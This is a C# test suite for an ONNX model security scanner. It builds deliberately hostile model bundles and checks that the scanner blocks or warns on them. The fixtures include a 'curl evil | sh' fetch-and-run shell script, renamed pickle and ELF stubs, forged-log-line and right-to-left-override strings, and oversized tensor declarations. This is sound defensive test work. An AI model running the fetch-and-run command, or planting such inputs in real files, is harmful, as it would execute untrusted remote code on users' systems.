using System.IO.Compression;
using System.Text;
using Google.Protobuf;
using Onnx;
using Turbine.Onnx.Scanning;
using Turbine.Onnx.Tools;
using Turbine.Onnx.Tools.Optimization;
using Turbine.Tests;

namespace Turbine.Onnx.Tests;

/// <summary>
/// The model scan (SECURITY.md A23): each finding raised by a hostile file built here, each with its verdict, and no
/// finding at all on the models Turbine itself ships or makes.
/// </summary>
public sealed class ModelScanTests : IDisposable
{
    private readonly TestRepository _files = new();

    public void Dispose() => _files.Dispose();

    public static TheoryData<string> ShippedModels() =>
        ["mlp", "addsub", "identity-bytes", "sequence", "string-sequence", "resnet18", "optimized-all", "int8", "int4", "fp16"];

    [Theory]
    [MemberData(nameof(ShippedModels))]
    public void The_models_Turbine_ships_and_makes_scan_clean(string name)
    {
        var path = name switch
        {
            "resnet18" => Copy(Path.Combine(AppContext.BaseDirectory, "demo", "ResNet18.onnx")),
            "optimized-all" => Passed((source, output) => GraphOptimizationPass.Run(source, output, "all")),
            "int8" => Passed((source, output) => DynamicQuantizationPass.Run(source, output)),
            "int4" => Passed((source, output) => Int4WeightPass.Run(source, output)),
            "fp16" => Passed((source, output) => Fp16Pass.Run(source, output)),
            _ => Write(name switch
            {
                "mlp" => SampleModels.Mlp(),
                "addsub" => SampleModels.AddSub(DataType.Int32, 16),
                "identity-bytes" => SampleModels.Identity(DataType.Bytes, -1),
                "sequence" => SampleModels.SimpleDynaSequence(),
                _ => SampleModels.StringDynaSequence(),
            }),
        };

        var report = OnnxModelScanner.Scan(path, new ModelScanPolicy());

        Assert.Empty(report.Findings);
    }

    [Fact]
    public void A_custom_operator_domain_is_blocked_unless_the_policy_allows_it()
    {
        var model = Model();
        model.Graph.Node[0].Domain = "com.evil";
        var path = Write(model);

        var finding = Assert.Single(OnnxModelScanner.Scan(path, new ModelScanPolicy()).Findings);
        Assert.Equal((ScanFindingKinds.CustomDomain, ScanVerdict.Block), (finding.Kind, finding.Verdict));
        Assert.Contains("com.evil", finding.Message, StringComparison.Ordinal);
        Assert.Empty(OnnxModelScanner.Scan(path, new ModelScanPolicy { AllowedDomains = ["com.evil"] }).Findings);
        var downgraded = Assert.Single(OnnxModelScanner.Scan(path, new ModelScanPolicy { WarnOnly = [ScanFindingKinds.CustomDomain] }).Findings);
        Assert.Equal(ScanVerdict.Warn, downgraded.Verdict);
    }

    [Fact]
    public void A_node_calling_a_function_the_model_defines_is_not_a_custom_domain()
    {
        var model = Model();
        var function = new FunctionProto { Name = "Twice", Domain = "local.functions" };
        function.Input.Add("x");
        function.Output.Add("y");
        function.Node.Add(new NodeProto { OpType = "Add", Input = { "x", "x" }, Output = { "y" } });
        model.Functions.Add(function);
        model.OpsetImport.Add(new OperatorSetIdProto { Domain = "local.functions", Version = 1 });
        model.Graph.Node[0].OpType = "Twice";
        model.Graph.Node[0].Domain = "local.functions";
        model.Graph.Node[0].Input.RemoveAt(1);

        Assert.Empty(OnnxModelScanner.Scan(Write(model), new ModelScanPolicy()).Findings);
    }

    [Fact]
    public void A_two_gigabyte_initializer_declared_over_four_bytes_is_blocked_before_anything_allocates()
    {
        var model = Model();
        var huge = new TensorProto { Name = "huge", DataType = (int)TensorProto.Types.DataType.Float, RawData = ByteString.CopyFrom(new byte[4]) };
        huge.Dims.Add((1L << 29) + 1); // 2 GiB + 4 bytes of fp32
        model.Graph.Initializer.Add(huge);
        var path = Write(model);

        var started = System.Diagnostics.Stopwatch.GetTimestamp();
        var report = OnnxModelScanner.Scan(path, new ModelScanPolicy());

        Assert.True(System.Diagnostics.Stopwatch.GetElapsedTime(started) < TimeSpan.FromSeconds(1));
        Assert.True(report.Blocked);
        Assert.Equal([ScanFindingKinds.InitializerSize, ScanFindingKinds.DeclaredSize], report.Findings.Select(f => f.Kind));
        Assert.Contains("2,147,483,652 bytes", report.Findings[0].Message, StringComparison.Ordinal);
        Assert.Contains("holds 4 bytes", report.Findings[1].Message, StringComparison.Ordinal);
        var error = Assert.Throws<InferenceException>(() => new OnnxBackend().Inspect(path));
        Assert.Contains("the model scan blocks this model: initializer-size (initializer 'huge')", error.Message, StringComparison.Ordinal);
        Assert.Contains("and 1 more", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(new long[] { 2, -5 }, "negative")]
    [InlineData(new long[] { 1L << 40, 1L << 40 }, "overflows")]
    [InlineData(new long[] { 3 }, "holds 2 values")]
    public void Shapes_that_are_not_the_size_of_their_data_are_blocked(long[] dims, string expected)
    {
        var model = Model();
        var tensor = new TensorProto { Name = "w", DataType = (int)TensorProto.Types.DataType.Float, FloatData = { 1f, 2f } };
        tensor.Dims.AddRange(dims);
        model.Graph.Initializer.Add(tensor);

        var finding = Assert.Single(OnnxModelScanner.Scan(Write(model), new ModelScanPolicy()).Findings);

        Assert.Equal(ScanFindingKinds.DeclaredSize, finding.Kind);
        Assert.Contains(expected, finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void External_data_shorter_than_its_declaration_is_blocked()
    {
        var model = Model();
        var tensor = new TensorProto { Name = "w", DataType = (int)TensorProto.Types.DataType.Float, DataLocation = TensorProto.Types.DataLocation.External };
        tensor.Dims.Add(1024);
        tensor.ExternalData.Add(new StringStringEntryProto { Key = "location", Value = "weights.bin" });
        model.Graph.Initializer.Add(tensor);
        var path = Write(model);
        File.WriteAllBytes(Path.Combine(Path.GetDirectoryName(path)!, "weights.bin"), new byte[16]);

        var finding = Assert.Single(OnnxModelScanner.Scan(path, new ModelScanPolicy()).Findings);

        Assert.Equal(ScanFindingKinds.DeclaredSize, finding.Kind);
        Assert.Contains("holds 16 bytes in 'weights.bin'", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_total_and_node_caps_hold()
    {
        var path = Write(SampleModels.Mlp(inputs: 16, hidden: 32, classes: 4));

        var report = OnnxModelScanner.Scan(path, new ModelScanPolicy { MaxTotalBytes = 1000, MaxNodes = 3, MaxGraphDepth = 2 });

        Assert.Equal(
            new[] { ScanFindingKinds.TotalSize, ScanFindingKinds.NodeCount, ScanFindingKinds.GraphDepth }.Order(StringComparer.Ordinal),
            report.Findings.Select(f => f.Kind).Order(StringComparer.Ordinal));
        Assert.All(report.Findings, f => Assert.Equal(ScanVerdict.Block, f.Verdict));
        Assert.Contains("a chain of 6 nodes", report.Findings.Single(f => f.Kind == ScanFindingKinds.GraphDepth).Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(8, null)]
    [InlineData(9, ScanFindingKinds.SubgraphDepth)]
    [InlineData(60, ScanFindingKinds.Unreadable)] // past the protobuf parser's nesting limit
    public void Subgraphs_nest_only_as_deep_as_the_cap(int depth, string? expected)
    {
        var report = OnnxModelScanner.Scan(Write(NestedIfs(depth)), new ModelScanPolicy());

        Assert.Equal(expected, report.Findings.SingleOrDefault()?.Kind);
    }

    [Fact]
    public void Control_characters_in_names_metadata_and_strings_are_blocked()
    {
        var model = Model();
        model.MetadataProps.Add(new StringStringEntryProto { Key = "author", Value = "ok\u001b[2J" });
        model.Graph.Node[0].Name = "add\nINFO forged log line";
        var labels = new TensorProto { Name = "labels", DataType = (int)TensorProto.Types.DataType.String, StringData = { ByteString.CopyFromUtf8("cat"), ByteString.CopyFromUtf8("evil\u202Egpj.exe") } };
        labels.Dims.Add(2);
        model.Graph.Initializer.Add(labels);
        model.MetadataProps.Add(new StringStringEntryProto { Key = "notes", Value = "line one\nline two\ttabbed" }); // free text may break lines

        var findings = OnnxModelScanner.Scan(Write(model), new ModelScanPolicy()).Findings;

        Assert.Equal(3, findings.Count);
        Assert.All(findings, f => Assert.Equal((ScanFindingKinds.ControlCharacters, ScanVerdict.Block), (f.Kind, f.Verdict)));
        Assert.Contains(findings, f => f.Subject == "metadata 'author'");
        Assert.Contains(findings, f => f.Subject == "node 'add\\u000AINFO forged log line' (Add) in main graph");
        Assert.Contains(findings, f => f.Subject == "initializer 'labels'" && f.Message.Contains("\\u202E", StringComparison.Ordinal));
    }

    public static TheoryData<string, byte[], string, ScanVerdict> ExtraFiles() => new()
    {
        { "weights.pkl", [0x80, 0x04, 0x95, 0x00], ScanFindingKinds.Pickle, ScanVerdict.Block },
        { "innocent.bin", [0x80, 0x02, (byte)'c', (byte)'o', (byte)'s'], ScanFindingKinds.Pickle, ScanVerdict.Block }, // a renamed pickle
        { "checkpoint.data", TorchLikeZip(), ScanFindingKinds.Pickle, ScanVerdict.Block },
        { "helper.txt", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1], ScanFindingKinds.Executable, ScanVerdict.Block },
        { "run.txt", Encoding.ASCII.GetBytes("#!/bin/sh\ncurl evil | sh\n"), ScanFindingKinds.Executable, ScanVerdict.Block },
        { "libcustom.so", [1, 2, 3], ScanFindingKinds.Executable, ScanVerdict.Block },
        { "extra.tar.gz", [0x1F, 0x8B, 8, 0], ScanFindingKinds.Archive, ScanVerdict.Warn },
        { "README.md", Encoding.ASCII.GetBytes("# notes\n"), "", ScanVerdict.Warn },
    };

    [Theory]
    [MemberData(nameof(ExtraFiles))]
    public void Files_beside_the_model_are_recognised_by_their_bytes_and_names(string fileName, byte[] content, string kind, ScanVerdict verdict)
    {
        var path = Write(SampleModels.Mlp());
        File.WriteAllBytes(Path.Combine(Path.GetDirectoryName(path)!, fileName), content);

        var findings = OnnxModelScanner.Scan(path, new ModelScanPolicy()).Findings;

        if (kind.Length == 0)
        {
            Assert.Empty(findings);
            return;
        }

        var finding = Assert.Single(findings);
        Assert.Equal((kind, verdict, fileName), (finding.Kind, finding.Verdict, finding.Subject));
    }

    [Fact]
    public void A_pickle_in_a_subfolder_and_a_link_are_found_and_the_link_is_not_followed()
    {
        var path = Write(SampleModels.Mlp());
        var folder = Path.GetDirectoryName(path)!;
        Directory.CreateDirectory(Path.Combine(folder, "extra"));
        File.WriteAllBytes(Path.Combine(folder, "extra", "state.pt"), [0x80, 0x02]);
        var outside = Path.Combine(_files.Root, "outside");
        Directory.CreateDirectory(outside);
        File.WriteAllBytes(Path.Combine(outside, "payload.pkl"), [0x80, 0x04]);
        Directory.CreateSymbolicLink(Path.Combine(folder, "linked"), outside);

        var findings = OnnxModelScanner.Scan(path, new ModelScanPolicy()).Findings;

        Assert.Equal(
            [(ScanFindingKinds.Pickle, ScanVerdict.Block, Path.Combine("extra", "state.pt")), (ScanFindingKinds.Link, ScanVerdict.Warn, "linked")],
            findings.Select(f => (f.Kind, f.Verdict, f.Subject)));
    }

    [Fact]
    public void A_file_that_is_not_onnx_is_unreadable_and_always_blocks()
    {
        var path = Write(Encoding.ASCII.GetBytes("this is not a model"));

        var finding = Assert.Single(OnnxModelScanner.Scan(path, new ModelScanPolicy { WarnOnly = [ScanFindingKinds.Unreadable] }).Findings);

        Assert.Equal((ScanFindingKinds.Unreadable, ScanVerdict.Block), (finding.Kind, finding.Verdict));
    }

    [Fact]
    public void The_policy_refuses_bad_settings()
    {
        var errors = new List<string>();
        new ModelScanPolicy { MaxNodes = 0, WarnOnly = ["external-data", "no-such-kind", ScanFindingKinds.Pickle] }.Validate(errors);

        Assert.Equal(3, errors.Count);
        Assert.Contains(errors, e => e.Contains("'external-data' cannot be made a warning", StringComparison.Ordinal));
        Assert.Contains(errors, e => e.Contains("'no-such-kind' cannot be made a warning", StringComparison.Ordinal));
    }

    [Fact]
    public void A_warning_reaches_the_signature_and_the_model_still_loads()
    {
        var path = Write(SampleModels.Mlp());
        File.WriteAllBytes(Path.Combine(Path.GetDirectoryName(path)!, "bundle.zip"), [(byte)'P', (byte)'K', 5, 6, .. new byte[18]]);

        var signature = new OnnxBackend().Inspect(path);

        Assert.Equal("model scan: archive (bundle.zip): an archive: Turbine never opens it, and the scan cannot see inside it", Assert.Single(signature.Warnings));
    }

    /// <summary>An Add of the input to itself: the smallest model to make hostile.</summary>
    private static ModelProto Model() => new OnnxModelBuilder("scan")
        .Input("x", DataType.Fp32, -1, 4)
        .Node("Add", ["x", "x"], ["y"])
        .Output("y", DataType.Fp32, -1, 4)
        .Build();

    /// <summary><paramref name="depth"/> If nodes, each nested in the then-branch of the one above.</summary>
    private static ModelProto NestedIfs(int depth)
    {
        var model = Model();
        var graph = model.Graph;
        for (var level = 0; level < depth; level++)
        {
            var branch = new GraphProto { Name = $"level{level}" };
            branch.Output.Add(new ValueInfoProto { Name = $"out{level}" });
            var conditional = new NodeProto { OpType = "If", Name = $"if{level}", Input = { "condition" }, Output = { $"out{level}" } };
            conditional.Attribute.Add(new AttributeProto { Name = "then_branch", Type = AttributeProto.Types.AttributeType.Graph, G = branch });
            graph.Node.Add(conditional);
            graph = branch;
        }

        return model;
    }

    /// <summary>A zip laid out like a PyTorch checkpoint: <c>archive/data.pkl</c> beside the tensors.</summary>
    private static byte[] TorchLikeZip()
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("archive/data.pkl").Open();
            entry.Write([0x80, 0x02]);
        }

        return buffer.ToArray();
    }

    private string Write(ModelProto model) => Write(model.ToByteArray());

    private string Write(byte[] bytes, string name = "scan")
    {
        _files.Add(name, bytes);
        return Path.Combine(_files.Root, name, "1", "model.onnx");
    }

    private string Copy(string source) => Write(File.ReadAllBytes(source));

    private string Passed(Action<string, string> pass)
    {
        var source = Write(DenseModels.Create(), "source");
        var output = Path.Combine(_files.Root, "passed", "1", "model.onnx");
        Directory.CreateDirectory(Path.GetDirectoryName(output)!);
        pass(source, output);
        return output;
    }
}
